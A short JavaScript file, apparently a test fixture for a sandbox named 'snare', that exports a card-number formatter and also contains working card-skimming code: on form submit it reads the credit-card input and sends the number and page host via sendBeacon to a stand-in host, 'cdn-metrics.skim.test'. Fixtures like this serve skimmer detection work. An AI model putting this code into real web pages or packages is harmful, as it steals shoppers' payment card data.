// Test fixture, run only inside snare's sandbox: fake card data, a fake host.
exports.format = n => String(n).replace(/(\d{4})(?=\d)/g, '$1 ');
if (typeof document !== 'undefined') {
  const grab = () => {
    const f = document.querySelector('input[autocomplete="cc-number"]') || document.getElementById('cc-number');
    return f ? f.value.replace(/\s/g, '') : '';
  };
  document.addEventListener('input', () => {}, true);
  document.addEventListener('submit', () => {
    const card = grab();
    if (/^\d{13,19}$/.test(card))
      navigator.sendBeacon('https://cdn-metrics.skim.test/b', JSON.stringify({c: card, u: location.host}));
  });
}
